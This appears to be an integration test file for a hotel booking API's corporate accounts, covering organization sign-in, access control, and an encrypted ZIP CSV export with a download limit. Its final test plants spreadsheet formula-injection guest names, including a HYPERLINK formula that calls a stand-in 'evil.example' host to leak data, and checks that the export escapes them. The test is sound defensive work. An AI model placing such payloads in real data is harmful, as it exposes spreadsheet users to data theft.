import { eq } from 'drizzle-orm';
import { TextWriter, Uint8ArrayReader, ZipReader, type FileEntry } from '@zip.js/zip.js';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  memberSessionReplySchema,
  organizationDownloadReplySchema,
  organizationReservationsReplySchema,
} from '../../contract';
import { DEMO_CORPORATE } from '../corporate/seed-corporate';
import { DEMO_LINE_MEMBER } from '../membership-accounts/seed-membership-accounts';
import { organizations, reservations } from '../db/schema';
import { testDatabaseTargets, type TestDatabase } from './support/test-databases';
import { START, firstCode, reservationRequest, startTestApi, type TestApi } from './support/test-api';

// Corporate accounts against a real database: organization sign-in, corporate bookings, the
// admin's reservation data with allowances, and the password-protected ZIP with its limit (1600).
describe.each(testDatabaseTargets)('corporate accounts on $name', (target) => {
  if (target.skipReason) {
    it.skip(`skipped on ${target.name}: ${target.skipReason}`, () => {});
    return;
  }

  let handle: TestDatabase;
  let api: TestApi;
  let demoOrgId: number;
  let otherOrgId: number;
  beforeAll(async () => {
    handle = await target.open();
    api = await startTestApi(handle.database);
    const orgs = await handle.database.db.select().from(organizations);
    demoOrgId = orgs.find((o) => o.name === 'demo-trading')!.id;
    otherOrgId = orgs.find((o) => o.name === 'other-industries')!.id;
  });
  afterAll(async () => {
    await handle?.dispose();
  });
  beforeEach(() => api.travelTo(START));

  const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });
  const orgSignIn = (email: string, password: string) =>
    api.request('POST', '/book/hotels/demo-kyoto/organization/sign_in', { email, password });
  async function tokenOf(user: { email: string; password: string }): Promise<string> {
    const reply = await orgSignIn(user.email, user.password);
    expect(reply.status).toBe(200);
    return memberSessionReplySchema.parse(reply.body).data.token;
  }
  const orgPath = (id: number, rest = '') => `/book/hotel_brands/demo/organizations/${id}${rest}`;
  async function book(token: string | null, overrides: Parameters<typeof reservationRequest>[0] = {}) {
    const reply = await api.request(
      'POST',
      '/book/hotels/demo-kyoto/reservations',
      reservationRequest(overrides),
      token ? bearer(token) : {},
    );
    expect(reply.status).toBe(201);
    return reply.body.confirmation_number as string;
  }
  async function openZip(bytes: Uint8Array, password?: string): Promise<string> {
    const [entry] = await new ZipReader(new Uint8ArrayReader(bytes)).getEntries();
    expect(entry!.encrypted).toBe(true);
    return (entry as FileEntry).getData(new TextWriter(), password ? { password } : {});
  }
  async function fetchZip(
    path: string,
  ): Promise<{ status: number; bytes: Uint8Array; body: string; type: string | null }> {
    const response = await api.app.request(path);
    const bytes = new Uint8Array(await response.arrayBuffer());
    return {
      status: response.status,
      bytes,
      body: new TextDecoder().decode(bytes),
      type: response.headers.get('content-type'),
    };
  }

  it('describes the corporate and lottery calls in the OpenAPI document', async () => {
    const doc = (await api.request('GET', '/api/openapi.json')).body;
    for (const path of [
      '/book/hotels/{h}/organization/sign_in',
      '/book/hotel_brands/{brand}/organizations/{id}/reservations/downloads',
      '/book/hotels/{h}/lottery_results',
      '/api/staff/hotels/{h}/lottery_events/{id}/draw',
    ]) {
      expect(doc.paths[path]).toBeTruthy();
    }
    expect(doc.components.schemas.OrganizationDownloadReply.properties.data.properties.password).toBeTruthy();
    expect(doc.components.schemas.LotteryEntryReply).toBeTruthy();
  });

  it('signs corporate users in with their organization and refuses everybody else alike', async () => {
    const reply = memberSessionReplySchema.parse(
      (await orgSignIn(DEMO_CORPORATE.admin.email, DEMO_CORPORATE.admin.password)).body,
    );
    expect(reply.data.user).toMatchObject({
      email: DEMO_CORPORATE.admin.email,
      organization: { id: demoOrgId, name: 'Demo Trading Co.' },
      organization_role: 'admin',
    });
    const me = await api.request('GET', '/book/user/me', undefined, bearer(reply.data.token));
    expect(me.body.data).toMatchObject({ organization: { id: demoOrgId }, organization_role: 'admin' });

    const wrong = await orgSignIn(DEMO_CORPORATE.admin.email, 'Wrong-pass-1');
    const individual = await orgSignIn(DEMO_LINE_MEMBER.email, DEMO_LINE_MEMBER.password);
    expect([wrong.status, firstCode(wrong.body)]).toEqual([422, '1000']);
    expect([individual.status, firstCode(individual.body)]).toEqual([422, '1000']);
    expect(individual.body.errors[0].title).toBe(wrong.body.errors[0].title);
    // The individual member's own sign-in still works: the organization sign-in only refused it.
    const normal = await api.request('POST', '/book/hotels/demo-kyoto/memberships/sign_in', DEMO_LINE_MEMBER);
    expect(normal.status).toBe(200);
    expect(normal.body.data.user.organization).toBeNull();
    // A corporate user signing in as a member still carries the organization.
    const viaMember = await api.request('POST', '/book/hotels/demo-kyoto/memberships/sign_in', {
      email: DEMO_CORPORATE.member.email,
      password: DEMO_CORPORATE.member.password,
    });
    expect(viaMember.body.data.user).toMatchObject({ organization: { id: demoOrgId }, organization_role: 'member' });
  });

  it('links corporate bookings to the organization and shows the admin only its own organization', async () => {
    const member = await tokenOf(DEMO_CORPORATE.member);
    const admin = await tokenOf(DEMO_CORPORATE.admin);
    const otherAdmin = await tokenOf(DEMO_CORPORATE.otherAdmin);
    const corporate = await book(member, {
      guest: { first_name: 'Kenji', last_name: 'Sato', email: 'kenji@example.com', phone: '+81312345678' },
    });
    const otherCorporate = await book(otherAdmin, { checkin_date: '2026-03-20', checkout_date: '2026-03-21' });
    const guest = await book(null, { checkin_date: '2026-03-22', checkout_date: '2026-03-23' });
    const [row] = await handle.database.db
      .select()
      .from(reservations)
      .where(eq(reservations.confirmationNumber, corporate));
    expect(row!.organizationId).toBe(demoOrgId);

    const list = await api.request('GET', orgPath(demoOrgId, '/reservations'), undefined, bearer(admin));
    expect(list.status).toBe(200);
    const parsed = organizationReservationsReplySchema.parse(list.body);
    const numbers = parsed.data.map((r) => r.reservation_number);
    expect(numbers).toContain(corporate);
    expect(numbers).not.toContain(otherCorporate);
    expect(numbers).not.toContain(guest);
    expect(parsed.data.find((r) => r.reservation_number === corporate)).toMatchObject({
      guest_name: 'Kenji Sato',
      booked_by: DEMO_CORPORATE.member.email,
      hotel_name: expect.any(String),
      nights: 2,
      rooms: 1,
      status: 'done',
      currency: 'JPY',
    });
    const quarter = parsed.allowances.find((a) => a.period_start <= '2026-03-10' && a.period_end >= '2026-03-10')!;
    expect(quarter).toMatchObject({ max_stays: 20 });
    expect(quarter.reserved).toBe(
      parsed.data.filter(
        (r) =>
          r.status !== 'cancelled' && r.checkin_date >= quarter.period_start && r.checkin_date <= quarter.period_end,
      ).length,
    );
    expect(quarter.remaining).toBe(20 - quarter.reserved);

    // The other organization's admin, a plain corporate user and nobody: refused.
    const foreign = await api.request('GET', orgPath(demoOrgId, '/reservations'), undefined, bearer(otherAdmin));
    const notAdmin = await api.request('GET', orgPath(demoOrgId, '/reservations'), undefined, bearer(member));
    const nobody = await api.request('GET', orgPath(demoOrgId, '/reservations'));
    const unknown = await api.request('GET', orgPath(999_999, '/reservations'), undefined, bearer(admin));
    expect([foreign.status, firstCode(foreign.body)]).toEqual([403, 'organization_admin_required']);
    expect([notAdmin.status, firstCode(notAdmin.body)]).toEqual([403, 'organization_admin_required']);
    expect([unknown.status, firstCode(unknown.body)]).toEqual([403, 'organization_admin_required']);
    expect([nobody.status, firstCode(nobody.body)]).toEqual([401, '1400']);
    const otherList = organizationReservationsReplySchema.parse(
      (await api.request('GET', orgPath(otherOrgId, '/reservations'), undefined, bearer(otherAdmin))).body,
    );
    expect(otherList.data.map((r) => r.reservation_number)).toEqual([otherCorporate]);
    // Any user of the organization reads its name; another organization's user does not.
    expect((await api.request('GET', orgPath(demoOrgId), undefined, bearer(member))).body.data).toMatchObject({
      id: demoOrgId,
      display_name: 'Demo Trading Co.',
    });
    expect((await api.request('GET', orgPath(demoOrgId), undefined, bearer(otherAdmin))).status).toBe(403);
  });

  it('keeps corporate bookings to the account that made them (same-account rule)', async () => {
    const member = await tokenOf(DEMO_CORPORATE.member);
    const admin = await tokenOf(DEMO_CORPORATE.admin);
    const number = await book(member, { checkin_date: '2026-03-25', checkout_date: '2026-03-26' });
    const cancel = (headers: Record<string, string>) =>
      api.request(
        'PUT',
        `/book/hotels/demo-kyoto/reservations/${number}/cancel?email=hanako.yamada@example.com`,
        { reason: 'change_of_plans', cancellation_fee_displayed: 0 },
        headers,
      );
    const signedOut = await cancel({});
    const otherUser = await cancel(bearer(admin));
    expect(firstCode(signedOut.body)).toBe('update_sign_in_required');
    expect(firstCode(otherUser.body)).toBe('update_different_account');
  });

  it('downloads the reservations as a CSV inside a password-protected ZIP, up to the daily limit', async () => {
    const member = await tokenOf(DEMO_CORPORATE.member);
    const admin = await tokenOf(DEMO_CORPORATE.admin);
    const otherAdmin = await tokenOf(DEMO_CORPORATE.otherAdmin);
    const mine = await book(member, {
      checkin_date: '2026-04-01',
      checkout_date: '2026-04-04',
      guest: { first_name: 'Yuki', last_name: 'Tanaka', email: 'yuki@example.com', phone: '+81312345678' },
    });
    const theirs = await book(otherAdmin, { checkin_date: '2026-04-05', checkout_date: '2026-04-06' });

    const created = await api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(admin));
    expect(created.status).toBe(201);
    const download = organizationDownloadReplySchema.parse(created.body).data;
    expect(download.password).toMatch(/^[A-Z0-9]{12}$/);
    expect(download.download_path).toMatch(/^\/api\/organization_downloads\/[\w-]{40,}$/);

    const file = await fetchZip(download.download_path);
    expect([file.status, file.type]).toEqual([200, 'application/zip']);
    // Really encrypted: no password or a wrong one does not open it, and the CSV is not in the bytes.
    await expect(openZip(file.bytes)).rejects.toThrow();
    await expect(openZip(file.bytes, 'WRONGPASSWORD')).rejects.toThrow();
    expect(file.body).not.toContain(mine);
    const csv = (await openZip(file.bytes, download.password)).replace(/^\uFEFF/, '');
    const lines = csv.trim().split('\r\n');
    expect(lines[0]).toBe(
      'reservation_number,reserved_at,guest_name,booked_by,hotel_name,checkin_date,nights,rooms,status,total_price,currency',
    );
    const row = lines.find((line) => line.startsWith(`${mine},`))!;
    expect(row).toContain(',Yuki Tanaka,corp.member@example.com,');
    expect(row).toContain(',2026-04-01,3,1,done,');
    expect(csv).not.toContain(theirs);
    expect(lines.length - 1).toBe(download.row_count);

    // Non-admins cannot create one; the link is unknown to a made-up token and dies after 10 minutes.
    expect(
      (await api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(member))).status,
    ).toBe(403);
    expect(
      (await api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(otherAdmin))).status,
    ).toBe(403);
    const unknown = await fetchZip('/api/organization_downloads/not-a-real-token');
    expect([unknown.status, firstCode(JSON.parse(unknown.body))]).toEqual([404, '1252']);
    api.clock.set('2026-03-02T03:11:00Z');
    const expired = await fetchZip(download.download_path);
    expect([expired.status, firstCode(JSON.parse(expired.body))]).toEqual([422, '1250']);
    await api.travelTo(START);

    // Five per 24 hours: the sixth at once is refused with 1600 in the error shape.
    const fresh = await tokenOf(DEMO_CORPORATE.admin);
    const attempts = await Promise.all(
      [1, 2, 3, 4, 5].map(() =>
        api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(fresh)),
      ),
    );
    expect(attempts.map((a) => a.status).sort()).toEqual([201, 201, 201, 201, 422]);
    const refused = attempts.find((a) => a.status === 422)!;
    expect(refused.body.errors[0]).toMatchObject({
      title: 'CSV download limit',
      details: { base: [{ code: '1600' }] },
    });
    // The other organization's limit is its own.
    expect(
      (await api.request('POST', orgPath(otherOrgId, '/reservations/downloads'), undefined, bearer(otherAdmin))).status,
    ).toBe(201);
  });

  it('writes guest names a spreadsheet would run as formulas as plain text', async () => {
    // Two days on: the download limit of the test above is behind us.
    await api.travelTo('2026-03-04T03:00:00Z');
    const member = await tokenOf(DEMO_CORPORATE.member);
    const admin = await tokenOf(DEMO_CORPORATE.admin);
    const names = ['=HYPERLINK("http://evil.example/?leak","Open")', '+SUM(1+1)', '-2+3', '@SUM(A1)'];
    const numbers: string[] = [];
    for (const [i, first] of names.entries()) {
      const number = await book(member, {
        checkin_date: `2026-05-0${i + 1}`,
        checkout_date: `2026-05-0${i + 2}`,
        guest: { first_name: 'Formula', last_name: 'Guest', email: 'formula@example.com', phone: '+81312345678' },
      });
      // The booking API refuses such names now (the name rules); rows from before the rules may hold them.
      await api.database.db
        .update(reservations)
        .set({ guestFirstName: first })
        .where(eq(reservations.confirmationNumber, number));
      numbers.push(number);
    }
    const download = organizationDownloadReplySchema.parse(
      (await api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(admin))).body,
    ).data;
    const csv = (await openZip((await fetchZip(download.download_path)).bytes, download.password)).replace(
      /^\uFEFF/,
      '',
    );
    const rows = csv.trim().split('\r\n');
    expect(rows.find((line) => line.startsWith(`${numbers[0]},`))).toContain(
      `,"'=HYPERLINK(""http://evil.example/?leak"",""Open"") Guest",`,
    );
    expect(rows.find((line) => line.startsWith(`${numbers[1]},`))).toContain(`,'+SUM(1+1) Guest,`);
    expect(rows.find((line) => line.startsWith(`${numbers[2]},`))).toContain(`,'-2+3 Guest,`);
    expect(rows.find((line) => line.startsWith(`${numbers[3]},`))).toContain(`,'@SUM(A1) Guest,`);
    // No cell of the file starts a formula.
    for (const row of rows)
      for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^ *[=+\-@\t]/);
  });
});
